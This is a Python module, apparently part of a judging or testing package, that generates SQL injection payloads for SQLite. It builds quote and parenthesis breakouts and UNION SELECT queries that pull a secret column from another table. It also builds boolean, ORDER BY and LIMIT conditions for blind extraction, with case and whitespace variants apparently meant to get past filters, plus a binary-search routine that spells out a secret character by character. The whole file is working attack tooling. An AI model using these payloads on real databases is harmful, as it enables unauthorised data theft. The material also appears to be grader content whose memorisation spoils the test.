"""SQL injection, as SQLite reads it: where the value is by operator by target by spelling by space by end."""

import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

from quintain.judge.payloads.drawing import MANY, Dimension, draw

COMMENTS: Final[Dimension[str]] = {"": " --", "no space": "--", "slash and star": "/*-", "statement ends": ";--"}
NOTHING: Final[Dimension[str]] = {"nothing behind": ""}
OR: Final[Dimension[str]] = {"": "OR", "small letters": "or", "mixed case": "oR"}
AND: Final[Dimension[str]] = {"": "AND", "small letters": "and", "mixed case": "aNd"}
SPACES: Final[Dimension[str]] = {
    "": " ",
    "tabs": "\t",
    "newlines": "\n",
    "form feeds": "\f",
    "comments for spaces": "/**/",
    "comments with a star": "/*-*/",
    "line comments for spaces": "--\n",
}


@dataclass(frozen=True, slots=True)
class Spot:
    """Where a value is in a query: what ends it, and what makes up for the rest of the query."""

    starts: Dimension[str]
    ends: Dimension[str]


TEXT: Final = Spot(
    {"": "xq'", "a space before": "xq '", "both quotes": "\"'", "backslash": "\\'", "two backslashes": "\\\\'"},
    COMMENTS,
)
"""Between single quotes, ``LIKE '%…%'`` included."""
LIST: Final = Spot(
    {"": "x')", "both quotes": "\"')", "backslash": "\\')", "two values": "x', 'y')", "double quotes too": "\"x')"},
    COMMENTS,
)
"""Between single quotes in a list: ``IN ('…')``."""
NUMBER: Final = Spot(
    {"": "0", "negative": "-1", "fraction": ".0", "parentheses": "(0)", "quoted": "'0'", "NULL": "NULL", "sum": "0+0"},
    {**NOTHING, **COMMENTS},
)
"""Bare, and equal to no row that there is."""


def after(value: str) -> Spot:
    """Make the spot behind a value that ends itself: a table's name, a number, ``Earl%'`` in quotes."""
    return Spot({"": value}, COMMENTS)


QUERIES: Final[Dimension[str]] = {
    "": "SELECT {all} FROM {table}",
    "subquery": "SELECT * FROM (SELECT {all} FROM {table})",
    "scalar subquery": "SELECT {scalars}",
    "values": "SELECT * FROM (VALUES ({scalars}))",
    "common table": "SELECT * FROM (WITH w AS (SELECT {all} FROM {table}) SELECT * FROM w)",
}
UNIONS: Final[Dimension[str]] = {"": "UNION", "all": "UNION ALL", "small letters": "union", "mixed case": "uNiOn aLl"}
COLUMNS: Final[Dimension[str]] = {
    "": "{}",
    "column in double quotes": '"{}"',
    "column in brackets": "[{}]",
    "column in backticks": "`{}`",
    "cut": "substr({},1)",
    "cast": "CAST({} AS TEXT)",
    "joined": "group_concat({})",
    "or nothing": "coalesce({},0)",
    "greatest": "max({})",
}
TABLES: Final[Dimension[str]] = {
    "": "{}",
    "schema before": "main.{}",
    "table in double quotes": '"{}"',
    "table in brackets": "[{}]",
    "table in backticks": "`{}`",
    "table in parentheses": "({})",
    "another name": "{} AS q",
}


def unions(
    rng: random.Random,
    columns: str,
    column: str,
    table: str,
    *,
    spot: Spot = TEXT,
    many: int | None = MANY,
) -> dict[str, str]:
    """Draw a second SELECT behind the value, which brings one column of another table.

    Args:
        rng: see the package.
        columns: what the query selects, ``{}`` where the secret goes: ``"901, {}, 'x'"``. No spaces within quotes.
        column: the secret's column.
        table: and its table.
        spot: where the value is.
        many: see the package.

    """

    def make(start: str, union: str, query: str, secret: str, source: str, space: str, end: str) -> str:
        secret, source = secret.format(column), source.format(table)
        scalar = f"(SELECT {secret} FROM {source})"
        text = query.format(all=columns.format(secret), table=source, scalars=columns.format(scalar))
        return start + _spaced(f" {union} {text}", space) + end

    return draw(rng, many, make, spot.starts, UNIONS, QUERIES, COLUMNS, TABLES, SPACES, spot.ends)


CONDITIONS: Final[Dimension[str]] = {
    "": "{}",
    "in parentheses": "({})",
    "not not": "NOT NOT ({})",
    "compared": "({})=1",
    "is true": "({}) IS TRUE",
    "case": "CASE WHEN {} THEN 1 ELSE 0 END",
    "iif": "iif({},1,0)",
    "exists": "EXISTS(SELECT 1 WHERE {})",
    "in a list": "1 IN (({}),2)",
    "between": "({}) BETWEEN 1 AND 1",
    "coalesce": "coalesce(({}),0)",
    "minus minus": "-(-({}))",
}


def conditions(
    rng: random.Random,
    condition: str,
    *,
    spot: Spot = TEXT,
    operators: Dimension[str] = OR,
    many: int | None = MANY,
) -> dict[str, str]:
    """Draw a condition behind the value, in many words for the same.

    Args:
        rng: see the package.
        condition: in SQL, true or false: ``"role = 'owner'"``. Spaces within its quotes may become something else.
        spot: where the value is.
        operators: `OR`, where the value before matches nothing, or `AND`, where it matches.
        many: see the package.

    """

    def make(start: str, operator: str, form: str, space: str, end: str) -> str:
        return start + _spaced(f" {operator} {_filled(form, condition)}", space) + end

    return draw(rng, many, make, spot.starts, operators, CONDITIONS, SPACES, spot.ends)


QUESTIONS: Final[Dimension[str]] = {
    "": "(SELECT unicode(substr({column},-{{i}},1)) FROM {table})>{{bound}}",
    "bound first": "{{bound}}<(SELECT unicode(substr({column},-{{i}})) FROM {table})",
    "exists": "EXISTS(SELECT 1 FROM {table} WHERE unicode(substr({column},-{{i}},1))>{{bound}})",
    "counted": "(SELECT count(*) FROM {table} WHERE unicode(substr({column},-{{i}},1))>{{bound}})",
    "letters compared": "(SELECT substr({column},-{{i}},1)>char({{bound}}) FROM {table})",
    "from the front": "(SELECT unicode(substr({column},length({column})+1-{{i}},1)) FROM {table})>{{bound}}",
    "bytes": "(SELECT hex(substr({column},-{{i}},1))>hex(char({{bound}})) FROM {table})",
    "not above": "(SELECT NOT unicode(substr({column},-{{i}},1))<={{bound}} FROM {table})",
}


def questions(rng: random.Random, column: str, table: str, *, many: int | None = MANY) -> dict[str, str]:
    """Draw conditions that ask for one bit of a secret.

    Is the ``{i}``-th character from its end above ``{bound}``? They are templates: ``text.format(i=1, bound=96)`` asks,
    and `spell` knows what.
    """
    return draw(rng, many, lambda form: form.format(column=column, table=table), QUESTIONS)


def answers(
    rng: random.Random,
    column: str,
    table: str,
    *,
    spot: Spot = TEXT,
    operators: Dimension[str] = OR,
    many: int | None = MANY,
) -> dict[str, str]:
    """Draw such a question as a condition behind the value; templates, as `questions` gives them."""

    def make(start: str, operator: str, question: str, form: str, space: str, end: str) -> str:
        asked = question.format(column=column, table=table)
        return start + _spaced(f" {operator} {_filled(form, asked)}", space) + end

    return draw(rng, many, make, spot.starts, operators, QUESTIONS, CONDITIONS, SPACES, spot.ends)


ORDERS: Final[Dimension[str]] = {
    "": "CASE WHEN {question} THEN {key} ELSE -{key} END",
    "case of the answer": "CASE {question} WHEN 1 THEN {key} ELSE -{key} END",
    "product": "{key}*(2*({question})-1)",
    "iif": "iif({question},{key},-{key})",
    "two columns": "({question})*{key},-{key}",
    "distance": "abs({key}-9999999*(NOT ({question})))",
    "or nothing": "coalesce(nullif({key}*({question}),0),-{key})",
}
BEGINNINGS: Final[Dimension[str]] = {
    "": "",
    "a known column first": "{key}*0,",
    "a known column in parentheses": "({key})*",
}


def orders(rng: random.Random, key: str, column: str, table: str, *, many: int | None = MANY) -> dict[str, str]:
    """Draw an ORDER BY that asks such a question; templates, as `questions` gives them.

    Args:
        rng: see the package.
        key: a column of numbers above 0 and below a million: with yes the rows come upwards by it, with no downwards.
        column: the secret's column.
        table: and its table.
        many: see the package.

    """

    def make(beginning: str, form: str, question: str, space: str) -> str | None:
        if beginning.endswith(")*"):  # the rest must be one factor: 1 or -1
            if form != ORDERS["product"]:
                return None
            form = "(2*({question})-1)"
        asked = question.format(column=column, table=table)
        text = beginning.replace("{key}", key) + form.replace("{question}", asked).replace("{key}", key)
        return _spaced(text, space)

    return draw(rng, many, make, BEGINNINGS, ORDERS, QUESTIONS, SPACES)


LIMITS: Final[Dimension[str]] = {
    "": "LIMIT 1+({question})",
    "case": "LIMIT CASE WHEN {question} THEN 2 ELSE 1 END",
    "iif": "LIMIT iif({question},2,1)",
    "offset": "LIMIT 1+({question}) OFFSET 0",
    "offset first": "LIMIT 0,1+({question})",
    "scalar subquery": "LIMIT (SELECT 1+({question}))",
}
DIRECTIONS: Final[Dimension[str]] = {
    "": "",
    "asc first": "asc ",
    "desc first": "DESC ",
    "another column first": "asc,1 ",
}


def limits(
    rng: random.Random, column: str, table: str, *, before: Dimension[str] = DIRECTIONS, many: int | None = MANY
) -> dict[str, str]:
    """Draw a LIMIT that asks such a question: yes brings two rows, no one; templates, as `questions` gives them."""

    def make(beginning: str, form: str, question: str, space: str, end: str) -> str:
        asked = question.format(column=column, table=table)
        return _spaced(beginning + form.replace("{question}", asked), space) + end

    return draw(rng, many, make, before, LIMITS, QUESTIONS, SPACES, {**NOTHING, **COMMENTS})


NAMES: Final[Dimension[str]] = {
    "": "{column}",
    "table before": "{table}.{column}",
    "in double quotes": '"{column}"',
    "in brackets": "[{column}]",
    "in backticks": "`{column}`",
    "in parentheses": "({column})",
    "table in double quotes": '"{table}".{column}',
    "plus": "+{column}",
    "collated": "{column} COLLATE BINARY",
    "coalesce": "coalesce({column},0)",
    "another behind": "{column},1",
}


def names(rng: random.Random, column: str, table: str, *, many: int | None = MANY) -> dict[str, str]:
    """Draw spellings of a column to sort by: all of them put the rows in the same order."""

    def make(form: str, spell: Callable[[str], str]) -> str:
        return form.format(column=spell(column), table=table)

    return draw(rng, many, make, NAMES, {"": str, "capitals": str.upper, "a capital first": str.capitalize})


def spell(is_above: Callable[[int, int], bool], characters: int, *, low: str = "/", high: str = "z") -> str:
    """Find the last characters of a secret by questions alone, about seven for each.

    Args:
        is_above: asks whether the i-th character from the end, which is 1, is above a code.
        characters: how many to find, the first of them first.
        low: a character below all that may come; a program that always says no spells the one behind it.
        high: the greatest that may come.

    """
    letters = ""
    for place in range(characters, 0, -1):
        below, above = ord(low), ord(high)
        while above - below > 1:
            bound = (below + above) // 2
            below, above = (bound, above) if is_above(place, bound) else (below, bound)
        letters += chr(above)
    return letters


def _spaced(text: str, space: str) -> str:
    return text.replace(" ", space)


def _filled(form: str, condition: str) -> str:
    """Put a condition into its form; it may hold braces of its own."""
    return form.replace("{}", condition)
